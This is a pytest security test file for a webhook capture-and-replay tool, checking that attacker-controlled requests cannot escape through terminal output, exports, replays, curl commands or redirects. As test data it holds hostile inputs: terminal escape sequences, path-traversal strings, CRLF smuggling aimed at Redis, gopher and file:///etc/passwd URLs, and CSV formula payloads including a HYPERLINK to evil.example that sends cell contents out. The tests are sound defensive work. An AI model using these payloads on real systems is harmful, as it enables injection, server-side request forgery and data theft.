"""Untrusted data leaving the lab: each attack below is reproduced against the real thing.

A captured request is attacker-controlled: its path, headers, body (and so ``event_type``), and
an imported HAR file is too. Each test sends the attack over real sockets (or writes the real
file) and checks what leaves the lab: API pages, stored headers, terminal lines, pytest messages,
forwarded / replayed requests, curl commands, CSV cells and redirected sends.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import socket
import ssl
import subprocess
import sys
import textwrap
import threading
import time
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from _http import post, raw_request
from _relsupport import HOOKLAB, serve
from _target import Target

import hooklab
from hooklab import HookLab
from hooklab.export import to_curl

pytestmark = pytest.mark.timeout(180)


@pytest.fixture
def ulab() -> Iterator[HookLab]:
    lab = HookLab(port=0, db=":memory:").start()
    try:
        yield lab
    finally:
        lab.stop()


def _api(lab: HookLab, query: str = "") -> tuple[int, bytes]:
    url = f"{lab.url}/_hooklab/api/captures?{query}"
    req = urllib.request.Request(url, headers={"Authorization": f"token {lab.api_token}"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return r.status, r.read()


# -- API pages have a byte budget ---------------------------------------------------------------
def test_api_pages_stop_at_a_byte_budget_and_say_more(ulab: HookLab) -> None:
    bodies = [bytes([65 + i]) * (3 * 1024 * 1024) for i in range(5)]  # 5 x 3 MiB of text
    for b in bodies:
        assert post(ulab.url_for("big"), b)[0] == 200
    ulab.wait(5, timeout=30)
    assert post(ulab.url_for("small"), b"tiny")[0] == 200
    ulab.wait(6, timeout=10)
    budget = ulab.server.api_page_bytes  # type: ignore[union-attr]
    assert budget == 8 * 1024 * 1024
    since, seen, pages = 0, [], []
    for _ in range(20):  # bounded: 6 captures need at most 6 pages
        _, raw = _api(ulab, f"since={since}")
        page = json.loads(raw)
        pages.append((len(raw), len(page["captures"]), page["more"]))
        # over the budget only when a single capture alone is bigger than it
        assert len(raw) <= budget or len(page["captures"]) == 1
        seen += page["captures"]
        since = page["last_id"]
        if not page["more"]:
            break
    assert [c["id"] for c in seen] == list(range(1, 7))
    assert [c["body_text"].encode() for c in seen[:5]] == bodies
    assert seen[5]["body_text"] == "tiny"
    # one 3 MiB body is ~7 MiB of JSON (base64 + text): one per page, the tiny one rides along
    assert [n for _, n, _ in pages] == [1, 1, 1, 1, 2]
    assert [m for _, _, m in pages] == [True, True, True, True, False]
    # without bodies everything fits one page
    _, raw = _api(ulab, "since=0&body=0")
    page = json.loads(raw)
    assert len(page["captures"]) == 6 and page["more"] is False and len(raw) < 64 * 1024
    # limit still applies and still says more
    _, raw = _api(ulab, "since=0&body=0&limit=2")
    page = json.loads(raw)
    assert [c["id"] for c in page["captures"]] == [1, 2] and page["more"] is True
    assert page["last_id"] == 2


def _hwm_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise RuntimeError("no VmHWM")


def test_one_api_request_cannot_exhaust_memory(tmp_path: Path) -> None:
    """12 x 8 MiB stored; one GET of the first page used to take ~5.5x the stored bytes."""
    log = tmp_path / "serve.log"
    proc, port = serve(tmp_path / "m.sqlite3", "--max-body", str(9 * 1024 * 1024),
                       "--durability", "normal", "--quiet", log=log)
    try:
        m = re.search(rb"/_hooklab/\?token=([A-Za-z0-9_-]+)", log.read_bytes())
        assert m, log.read_bytes()
        token = m.group(1).decode()
        body = b"x" * (8 * 1024 * 1024)
        for i in range(12):
            with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
                s.sendall(b"POST /mem/%d HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n"
                          b"Connection: close\r\n\r\n" % (i, len(body)) + body)
                assert s.recv(100).startswith(b"HTTP/1.1 200")
        before = _hwm_kib(proc.pid)
        req = urllib.request.Request(f"http://127.0.0.1:{port}/_hooklab/api/captures",
                                     headers={"Authorization": f"token {token}"})
        with urllib.request.urlopen(req, timeout=60) as r:
            page = json.loads(r.read())
        grown = _hwm_kib(proc.pid) - before
    finally:
        proc.terminate()
        proc.wait(20)
    print(f"\nAPI page over 12 x 8 MiB: {len(page['captures'])} capture(s), peak RSS +{grown} KiB")
    assert page["more"] is True and len(page["captures"]) == 1
    assert grown < 96 * 1024, f"peak RSS grew by {grown} KiB for one page"


# -- Jupyter's cookie and Authorization are redacted on the direct path ----------------------------
JUPYTER_COOKIE = 'username-127-0-0-1-8888="2|1:0|10:1700000000|23:username-127-0-0-1-8888|44:c2VjcmV0LWNvb2tpZQ==|abc"; _xsrf=2|xsrf-secret'


@pytest.mark.parametrize("path", ["fast", "chunked (Tornado)"])
def test_cookie_and_jupyter_authorization_are_redacted(ulab: HookLab, tmp_path: Path,
                                                        path: str) -> None:
    headers = [("Cookie", JUPYTER_COOKIE), ("Authorization", "token jupyter-secret-token-123"),
               ("X-Keep", "1"), ("Content-Type", "application/json")]
    head = "".join(f"{k}: {v}\r\n" for k, v in headers)
    body = b'{"ok": true}'
    if path == "fast":
        raw = (f"POST /jup/x HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}Content-Length: {len(body)}\r\n"
               "Connection: close\r\n\r\n").encode() + body
    else:
        raw = (f"POST /jup/x HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}Transfer-Encoding: chunked\r\n"
               "Connection: close\r\n\r\n").encode() + b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    assert raw_request(ulab.bound_port, raw).startswith(b"HTTP/1.1 200")  # type: ignore[arg-type]
    (cap,) = ulab.wait(1, timeout=10)
    assert cap.headers == [("Host", "127.0.0.1"), ("Cookie", "[redacted]"),
                           ("Authorization", "[redacted]"), ("X-Keep", "1"),
                           ("Content-Type", "application/json"),
                           *([("Content-Length", str(len(body)))] if path == "fast" else
                             [("Transfer-Encoding", "chunked")]),
                           ("Connection", "close")]
    # nothing downstream has them: exports, forward
    for fmt in ("har", "jsonl", "csv"):
        out = tmp_path / f"x.{fmt}"
        ulab.export(out, fmt=fmt)
        text = out.read_text()
        assert "c2VjcmV0LWNvb2tpZQ" not in text and "xsrf-secret" not in text
        assert "jupyter-secret-token" not in text
    with Target() as t:
        (r,) = ulab.replay(cap, to=t.url + "/hook")
        assert r.status == 200
        (got,) = t.wait(1)
    assert got.header("cookie") is None and got.header("authorization") is None
    assert got.header("x-keep") == "1"


def test_webhook_authorization_is_kept_and_redaction_can_be_turned_off(ulab: HookLab) -> None:
    """Providers authenticate with Authorization (Basic, Bearer): only Jupyter's scheme goes."""
    for value in ("Bearer eyJhbGciOi.payload.sig", "Basic dXNlcjpwYXNz", "token-less value"):
        before = ulab.store.last_id
        assert post(ulab.url_for("auth"), b"{}", {"Authorization": value})[0] == 200
        (cap,) = ulab.wait(1, since=before, timeout=10)
        assert cap.header("authorization") == value
    ulab.redact_credentials = False
    before = ulab.store.last_id
    assert post(ulab.url_for("auth"), b"{}", {"Cookie": "a=1"})[0] == 200
    (cap,) = ulab.wait(1, since=before, timeout=10)
    assert cap.header("cookie") == "a=1"


# -- terminal escape injection -------------------------------------------------------------------
EVIL_TYPE = "\x1b]0;pwned-title\x07\x1b[2K\r#99 12:00:00.000000 POST /stripe -> 200 2B verified\n\x9b31m\u202e"


def _stripe_evil(port: int, path: str = "/stripe") -> None:
    body = json.dumps({"type": EVIL_TYPE, "id": "evt_\x1b[5m"}).encode()
    raw = (f"POST {path} HTTP/1.1\r\nHost: x\r\nStripe-Signature: t=1,v1=00\r\n"
           f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
           "Connection: close\r\n\r\n").encode() + body
    assert raw_request(port, raw).startswith(b"HTTP/1.1 200")


def _visible_only(text: str) -> None:
    bad = sorted({f"U+{ord(ch):04X}" for ch in text if ch != "\n" and not ch.isprintable()})
    assert not bad, f"non-printable characters reach the terminal: {bad}"


def test_hooklab_serve_prints_only_visible_text(tmp_path: Path) -> None:
    log = tmp_path / "serve.log"
    proc, port = serve(tmp_path / "t.sqlite3", log=log)
    try:
        _stripe_evil(port)
        _stripe_evil(port, "/stripe/%1b%5b2K%0a")
        deadline = time.monotonic() + 10
        while log.read_bytes().count(b"\n#") < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        proc.terminate()
        proc.wait(20)
    text = log.read_bytes().decode("utf-8")
    _visible_only(text)
    lines = text.splitlines()
    captures = [ln for ln in lines if ln.startswith("#")]
    assert len(captures) == 2, lines  # no forged extra line
    assert not any("pwned" in ln for ln in lines if not ln.startswith("#1 ") and
                   not ln.startswith("#2 "))
    assert r"stripe/\x1b]0;pwned-title\x07\x1b[2K\r#99 12:00:00.000000 POST /stripe -> 200 2B verified\n\x9b31m\u202e" in captures[0]
    assert captures[0].endswith(r"\u202e")  # no "verified": the signature was not checked
    assert "/stripe/%1b%5b2K%0a" in captures[1]


PLUGIN_TEST = textwrap.dedent(
    '''
    import json, urllib.request

    def test_evil(hooklab_server):
        body = json.dumps({"type": EVIL, "id": "evt_1"}).encode()
        req = urllib.request.Request(hooklab_server.url_for("stripe"), data=body,
                                     headers={"Stripe-Signature": "t=1,v1=00"})
        urllib.request.urlopen(req, timeout=10).read()
        hooklab_server.wait(1, timeout=10)
        hooklab_server.assert_received(2, bin="stripe")

    def test_evil_repr(hooklab_server):
        body = json.dumps({"type": EVIL, "id": "evt_3"}).encode()
        req = urllib.request.Request(hooklab_server.url_for("stripe"), data=body,
                                     headers={"Stripe-Signature": "t=1,v1=00"})
        urllib.request.urlopen(req, timeout=10).read()
        assert hooklab_server.wait(1, timeout=10) == []  # pytest shows the Capture's repr

    def test_evil_wait(hooklab_server):
        body = json.dumps({"type": EVIL, "id": "evt_2"}).encode()
        req = urllib.request.Request(hooklab_server.url_for("stripe"), data=body,
                                     headers={"Stripe-Signature": "t=1,v1=00"})
        urllib.request.urlopen(req, timeout=10).read()
        hooklab_server.wait(2, timeout=0.5, event_type=EVIL)
    '''
)


def test_pytest_plugin_messages_print_only_visible_text(tmp_path: Path) -> None:
    (tmp_path / "test_evil.py").write_text(f"EVIL = {EVIL_TYPE!r}\n" + PLUGIN_TEST)
    env = {**os.environ, "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
    r = subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "hooklab.pytest_plugin", "-q", "--color=no",
         "-p", "no:cacheprovider", str(tmp_path)],
        cwd=tmp_path, capture_output=True, text=True, timeout=120, env=env)
    assert "3 failed" in r.stdout, r.stdout[-3000:]
    assert re.search(r"<Capture #\d+ POST /stripe 200 ", r.stdout), r.stdout[-3000:]
    assert "expected 2 capture(s)" in r.stdout and "waited 0.5 s for 2 capture(s)" in r.stdout
    _visible_only(r.stdout)
    assert r"\x1b]0;pwned-title\x07" in r.stdout


# -- forward / replay: the capture cannot steer the request -------------------------------------
DOT_PATHS = [
    "/gh/../../admin/delete-all",
    "/gh/..",
    "/gh/./x",
    "/gh/a/../../x",
    "/gh/%2e%2e/admin",
    "/gh/%2E%2E/admin",
    "/gh/.%2e/admin",
    "/gh/%2e./admin",
    "/gh/%2e/admin",
    "/gh/..;/admin",
    "/gh/..;jsessionid=1/admin",
    "/gh/.;/admin",
    "/gh/%2e%2e%2fadmin",
    "/gh/..%2fadmin",
    "/gh/..%2Fadmin",
    "/gh/..%5cadmin",
    "/gh/a/..%5c..%5cadmin",
    "/gh/%252e%252e/admin",
    "/gh/%252e%252e%252fadmin",
    "/gh/..\\admin",
]
SAFE_PATHS = ["/gh/a..b/c", "/gh/.well-known/x", "/gh/.../x", "/gh/..a/x", "/gh/%2e%2e%2e/x"]


def _raw_capture(lab: HookLab, target: str, body: bytes = b"{}") -> hooklab.Capture:
    before = lab.store.last_id
    raw = (f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(body)}\r\n"
           "Connection: close\r\n\r\n").encode("latin-1") + body
    assert raw_request(lab.bound_port, raw).startswith(b"HTTP/1.1 200")  # type: ignore[arg-type]
    (cap,) = lab.wait(1, since=before, timeout=10)
    return cap


def test_replay_refuses_dot_segments_and_keeps_other_paths(ulab: HookLab) -> None:
    with Target() as t:
        for p in DOT_PATHS:
            cap = _raw_capture(ulab, p)
            assert cap.path == p  # stored exactly as received
            (r,) = ulab.replay(cap, to=t.url + "/webhook")
            assert r.status is None and r.error is not None and "dot segment" in r.error, (p, r)
        assert t.received == []
        for p in SAFE_PATHS:
            cap = _raw_capture(ulab, p)
            (r,) = ulab.replay(cap, to=t.url + "/webhook")
            assert r.status == 200, (p, r)
        got = t.wait(len(SAFE_PATHS))
    assert [g.path for g in got] == ["/webhook" + p[3:] for p in SAFE_PATHS]


def test_forward_refuses_dot_segments(ulab: HookLab) -> None:
    with Target() as t:
        ulab.forward("gh", to=t.url + "/webhook")
        cap = _raw_capture(ulab, "/gh/../../admin/delete-all")
        ok = _raw_capture(ulab, "/gh/fine")
        t.wait(1)
        deadline = time.monotonic() + 10
        while len(ulab.forwards()) < 2 and time.monotonic() < deadline:
            time.sleep(0.02)
        outcomes = {f["capture_id"]: f for f in ulab.forwards()}
    assert [g.path for g in t.received] == ["/webhook/fine"]
    assert outcomes[cap.id]["status"] is None and "dot segment" in outcomes[cap.id]["error"]
    assert outcomes[ok.id]["status"] == 200


QUERY_CASES = [
    # (capture target, forward target, what the target must receive)
    ("/gh/x?secret=EVIL&a=1", "/webhook?secret=REAL", "/webhook/x?secret=REAL&a=1"),
    ("/gh/x?secret=EVIL&secret=EVIL2", "/webhook?secret=REAL", "/webhook/x?secret=REAL"),
    ("/gh/x?secr%65t=EVIL&b=2", "/webhook?secret=REAL", "/webhook/x?secret=REAL&b=2"),
    ("/gh/x?secret+=EVIL", "/webhook?secret%20=REAL", "/webhook/x?secret%20=REAL"),
    ("/gh/x?a=1&b=%20x", "/webhook", "/webhook/x?a=1&b=%20x"),
    ("/gh/x?a=1", "/webhook?k=v&k=w", "/webhook/x?k=v&k=w&a=1"),
    ("/gh/x?token=EVIL", "/webhook?token=REAL&x=1", "/webhook/x?token=REAL&x=1"),
]


def test_the_targets_own_query_wins(ulab: HookLab) -> None:
    with Target() as t:
        for i, (captured, to, want) in enumerate(QUERY_CASES):
            cap = _raw_capture(ulab, captured)
            (r,) = ulab.replay(cap, to=t.url + to)
            assert r.status == 200, r
            got = t.wait(i + 1)[-1]
            assert got.path == want, (captured, to)


# -- HAR import is untrusted --------------------------------------------------------------------
def _har(tmp_path: Path, request: dict, meta: dict | None = None) -> Path:
    entry: dict = {"startedDateTime": "2024-01-01T00:00:00Z",
                   "request": {"method": "POST", "url": "http://127.0.0.1:8765/gh/x",
                               "headers": [], **request}}
    if meta is not None:
        entry["_hooklab"] = meta
    p = tmp_path / "in.har"
    p.write_text(json.dumps({"log": {"version": "1.2", "entries": [entry]}}))
    return p


BAD_HAR = [
    ("CRLF in method", {"method": "POST /x HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\nFLUSHALL\r\n"}, None),
    ("space in method", {"method": "GET /"}, None),
    ("NUL in method", {"method": "PO\x00ST"}, None),
    ("CRLF in header value", {"headers": [{"name": "X-A", "value": "1\r\nX-Injected: 1"}]}, None),
    ("LF in header value", {"headers": [{"name": "X-A", "value": "1\nX"}]}, None),
    ("NUL in header value", {"headers": [{"name": "X-A", "value": "a\x00b"}]}, None),
    ("CRLF in header name", {"headers": [{"name": "X-A\r\nX-B", "value": "1"}]}, None),
    ("colon in header name", {"headers": [{"name": "X-A:", "value": "1"}]}, None),
    ("space in header name", {"headers": [{"name": "X A", "value": "1"}]}, None),
    ("empty header name", {"headers": [{"name": "", "value": "1"}]}, None),
    ("gopher URL", {"url": "gopher://127.0.0.1:6379/_FLUSHALL%0D%0A"}, None),
    ("file URL", {"url": "file:///etc/passwd"}, None),
    ("dict URL", {"url": "dict://127.0.0.1:11211/stat"}, None),
    ("scheme-less URL", {"url": "//evil.example/x"}, None),
    ("javascript URL", {"url": "javascript:alert(1)"}, None),
    ("CRLF in URL", {"url": "http://127.0.0.1/x\r\nX: 1"}, None),
    ("CRLF in stored path", {}, {"path": "/gh/x\r\nX-Injected: 1"}),
    ("path not starting with /", {}, {"path": "gh/x"}),
    ("space in stored path", {}, {"path": "/gh/x y"}),
]


@pytest.mark.parametrize("name,request_,meta", BAD_HAR, ids=[c[0] for c in BAD_HAR])
def test_har_import_refuses_what_the_server_would_refuse(tmp_path: Path, name: str,
                                                        request_: dict, meta: dict | None) -> None:
    with pytest.raises(ValueError, match="HAR entry 0"):
        hooklab.load_har(_har(tmp_path, request_, meta))


def test_har_import_keeps_good_entries_and_curl_targets_the_lab(tmp_path: Path) -> None:
    p = _har(tmp_path, {"url": "https://169.254.169.254:443/gh/x?q=1&r=a%20b", "method": "PUT",
                        "headers": [{"name": "Host", "value": "169.254.169.254"},
                                    {"name": "X-Ok", "value": "caf\u00e9 \t tab"}],
                        "postData": {"mimeType": "text/plain", "text": "hi"}})
    lab = hooklab.load_har(p)
    try:
        (cap,) = lab.captures
        assert cap.method == "PUT" and cap.header("x-ok") == "caf\u00e9 \t tab"
        cmd = to_curl(cap)
        argv = shlex.split(cmd)
        assert argv[:4] == ["curl", "--globoff", "-X", "PUT"]
        assert argv[4] == "http://127.0.0.1:8765/gh/x?q=1&r=a%20b"  # the lab's default address
        assert argv[5:7] == ["--proto", "=http,https"]
        assert "169.254.169.254" not in argv[4]
        cmd = to_curl(cap, base="http://127.0.0.1:9999")
        assert shlex.split(cmd)[4] == "http://127.0.0.1:9999/gh/x?q=1&r=a%20b"
    finally:
        lab.stop()


def test_copy_as_curl_from_a_live_capture_targets_the_lab_not_the_host_header(ulab: HookLab) -> None:
    raw = (b"POST /gh/x?q=1 HTTP/1.1\r\nHost: 127.0.0.1:6379\r\nContent-Length: 2\r\n"
           b"Connection: close\r\n\r\nhi")
    assert raw_request(ulab.bound_port, raw).startswith(b"HTTP/1.1 200")  # type: ignore[arg-type]
    (cap,) = ulab.wait(1, timeout=10)
    assert cap.url == "http://127.0.0.1:6379/gh/x?q=1"  # what the sender said, kept as data
    view = ulab.live()
    try:
        view.select(cap.id)  # what a click on the row does
        cmd = view.curl.value
    finally:
        view.close()
    assert f"{ulab.url}/gh/x?q=1" in cmd and "6379" not in cmd
    assert "--proto =http,https" in cmd


def test_curl_refuses_other_protocols(ulab: HookLab) -> None:
    """``--proto =http,https``: curl itself refuses a target that is not http(s)."""
    cap = _raw_capture(ulab, "/gh/x")
    argv = shlex.split(to_curl(cap, url="http://127.0.0.1:1/x"))
    assert argv[4] == "http://127.0.0.1:1/x/x"
    argv[4] = "gopher://127.0.0.1:1/_x"  # as if the target had been steered elsewhere
    r = subprocess.run([*argv, "-s", "-S", "-o", "/dev/null"], capture_output=True, text=True,
                       timeout=20)
    assert r.returncode == 1, r  # CURLE_UNSUPPORTED_PROTOCOL, not a connection attempt (7)
    assert 'Protocol "gopher" not supported or disabled' in r.stderr, r.stderr


# -- CSV formula injection -----------------------------------------------------------------------
def test_csv_cells_are_never_formulas(ulab: HookLab, tmp_path: Path) -> None:
    evil = {
        "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+": "+SUM(1+1)*cmd|' /C calc'!A0",
        "-": "-2+3+cmd|' /C calc'!A0",
        "@": "@SUM(1+1)",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        # a formula start after a ';' or a tab inside the cell: a cell of its own for a
        # spreadsheet that splits at ';' (Excel in many locales) or at tabs
        "semicolon": "invoice.paid;=HYPERLINK(A1)",
        "semicolon, quoted": "x;\"=cmd|'/Ccalc'!A0\"",
        "semicolon, space": "x; +1+1",
        "tab inside": "x\t@SUM(1)",
        # blanks a spreadsheet may trim first, and full-width forms a locale may read as ASCII
        "leading space": " =HYPERLINK(A1)",
        "nbsp": "\u00a0=1+1",
        "full-width": "\uff1dSUM(1)",
        "small form": "\ufe66SUM(1)",
        "semicolon, ideographic space": "x;\u3000=1",
    }
    expected = {
        "tab": "'\t'=1+1",
        "cr": "'\r'=1+1",
        "semicolon": "invoice.paid;'=HYPERLINK(A1)",
        "semicolon, quoted": "x;\"'=cmd|'/Ccalc'!A0\"",
        "semicolon, space": "x; '+1+1",
        "tab inside": "x\t'@SUM(1)",
        "semicolon, ideographic space": "x;\u3000'=1",
    }
    expected = [expected.get(k, "'" + v) for k, v in evil.items()]
    from urllib.parse import quote

    for key, value in evil.items():
        body = json.dumps({"type": value, "id": value}).encode()
        target = f"/{quote(value, safe='')}/x"
        raw = (f"POST {target} HTTP/1.1\r\nHost: x\r\nStripe-Signature: t=1,v1=00\r\n"
               f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
               "Connection: close\r\n\r\n").encode() + body
        assert raw_request(ulab.bound_port, raw).startswith(b"HTTP/1.1 200"), key  # type: ignore[arg-type]
    ulab.wait(len(evil), timeout=10)
    out = tmp_path / "x.csv"
    assert ulab.export(out, fmt="csv") == len(evil)
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["bin"] for r in rows] == expected
    assert [r["event_type"] for r in rows] == expected
    assert [r["delivery_id"] for r in rows] == expected
    for r in rows:
        for col, cell in r.items():
            assert not cell or cell[0] not in "=+-@\t\r", (col, cell)
    text = out.read_text(encoding="utf-8")
    for sep in (";", "\t"):  # the file read the way such a spreadsheet reads it
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
            for cell in row:
                assert not cell.lstrip(' "\u00a0\u3000').startswith(
                    ("=", "+", "-", "@", "\uff1d", "\ufe66")), (sep, cell)
    # the DataFrame itself keeps the values as received
    assert list(ulab.dataframe()["bin"]) == list(evil.values())


# -- send(follow_redirects=True) -----------------------------------------------------------------
@pytest.mark.parametrize("where", ["another port", "another host"])
def test_redirects_do_not_carry_credentials_to_another_origin(where: str) -> None:
    """Another origin gets no credentials or signatures; another host nothing at all: a 307
    keeps its body (RFC 9110 15.4.8), which hooklab does not send to another host, so the
    redirect comes back unfollowed (it sent an empty POST there and said 200)."""
    with Target() as other:
        host = "127.0.0.1" if where == "another port" else "localhost"
        location = f"http://{host}:{other.port}/stolen"
        with Target(status=307, headers=[("Location", location)]) as first:
            r = hooklab.send(first.url + "/hook", provider="github", event="push",
                             secret="s3cret", headers={"Authorization": "Bearer tok",
                                                       "Cookie": "c=1", "X-Keep": "k"},
                             follow_redirects=True)
            (sent,) = first.wait(1)
        if where == "another host":
            assert r.status == 307 and r.unfollowed and "another host" in r.unfollowed
            assert other.received == [] and sent.body
            return
        (got,) = other.wait(1)
    assert r.status == 200 and r.url == location
    assert sent.header("x-hub-signature-256") and sent.header("authorization") == "Bearer tok"
    assert sent.body
    assert got.method == "POST" and got.path == "/stolen"
    assert got.header("authorization") is None and got.header("cookie") is None
    assert got.header("x-hub-signature-256") is None and got.header("x-hub-signature") is None
    assert got.header("x-keep") == "k" and got.header("x-github-event") == "push"
    assert got.body == sent.body


class _MovedOnce(BaseHTTPRequestHandler):
    """``/hook`` answers 307 to ``/moved`` (same origin); ``/moved`` answers 200."""

    got: list[tuple[str, dict[str, str], bytes]] = []

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:  # noqa: N802 - http.server API
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        _MovedOnce.got.append((self.path, {k.lower(): v for k, v in self.headers.items()}, body))
        self.send_response(307 if self.path == "/hook" else 200)
        if self.path == "/hook":
            self.send_header("Location", "/moved")
        self.send_header("Content-Length", "0")
        self.end_headers()


def test_same_origin_redirects_keep_the_request() -> None:
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _MovedOnce)
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    _MovedOnce.got.clear()
    try:
        r = hooklab.send(f"http://127.0.0.1:{srv.server_port}/hook", provider="github",
                         event="push", secret="s3cret", follow_redirects=True)
    finally:
        srv.shutdown()
        srv.server_close()
    assert r.status == 200
    (p1, h1, b1), (p2, h2, b2) = _MovedOnce.got
    assert (p1, p2) == ("/hook", "/moved") and b2 == b1 and b1
    assert h2["x-hub-signature-256"] == h1["x-hub-signature-256"]


@pytest.fixture(scope="module")
def https_target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """An https server on 127.0.0.1 (self-signed for IP:127.0.0.1) answering 302 to http."""
    d = tmp_path_factory.mktemp("tls")
    cert, key = d / "cert.pem", d / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True,
                   timeout=60)
    got: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_POST(self) -> None:  # noqa: N802 - http.server API
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            got.append(self.path)
            self.send_response(302)
            self.send_header("Location", self.server.location)  # type: ignore[attr-defined]
            self.send_header("Content-Length", "0")
            self.end_headers()

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    srv.location = ""  # type: ignore[attr-defined]
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    try:
        yield srv, cert  # type: ignore[misc]
    finally:
        srv.shutdown()
        srv.server_close()


def test_redirects_from_https_to_http_are_refused(https_target, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    srv, cert = https_target
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))
    with Target() as plain:
        srv.location = plain.url + "/downgraded"
        url = f"https://127.0.0.1:{srv.server_address[1]}/hook"
        r = hooklab.send(url, payload={"card": "4242"}, follow_redirects=True)
        assert r.status == 302 and r.url == url
        assert r.header("location") == plain.url + "/downgraded"
        assert plain.received == []


def test_cli_export_csv_is_neutralised_too(tmp_path: Path) -> None:
    db = tmp_path / "c.sqlite3"
    lab = HookLab(port=0, db=str(db)).start()
    try:
        assert post(lab.url + "/%3Dcmd", b"{}")[0] == 200  # bin "=cmd"
        lab.wait(1, timeout=10)
    finally:
        lab.stop()
    r = subprocess.run([*HOOKLAB, "export", "--db", str(db), "--format", "csv"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    (row,) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["bin"] == "'=cmd"


# -- a request pipelined after "Connection: close" -----------------------------------------------
CLOSE_FIRST = {
    "content-length (fast path)":
        b"POST /pc/a HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nConnection: close\r\n\r\na",
    "chunked (Tornado path)":
        b"POST /pc/a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n"
        b"\r\n1\r\na\r\n0\r\n\r\n",
    "HTTP/1.0 (close implied)": b"POST /pc/a HTTP/1.0\r\nHost: x\r\nContent-Length: 1\r\n\r\na",
    "Expect: 100-continue (Tornado path)":
        b"POST /pc/a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 1\r\n"
        b"Connection: close\r\n\r\na",
}


@pytest.mark.parametrize("first", list(CLOSE_FIRST), ids=list(CLOSE_FIRST))
def test_a_request_pipelined_after_close_is_neither_answered_nor_stored(ulab: HookLab,
                                                                        first: str) -> None:
    """Whatever follows a request that closes the connection is never answered: so it must not
    be stored either (a sender would retry it and get a duplicate)."""
    then = b"POST /pc/b HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\nb"
    answer = raw_request(ulab.bound_port, CLOSE_FIRST[first] + then)  # type: ignore[arg-type]
    finals = [s for s in re.findall(rb"HTTP/1\.[01] (\d{3}) ", answer) if s != b"100"]
    assert finals == [b"200"], answer
    ulab.wait(1, timeout=10)
    # the store's last word: a second request on a fresh connection is stored after both
    assert post(ulab.url_for("pc", "c"), b"c")[0] == 200
    assert [c.path for c in ulab.wait(2, timeout=10)] == ["/pc/a", "/pc/c"]
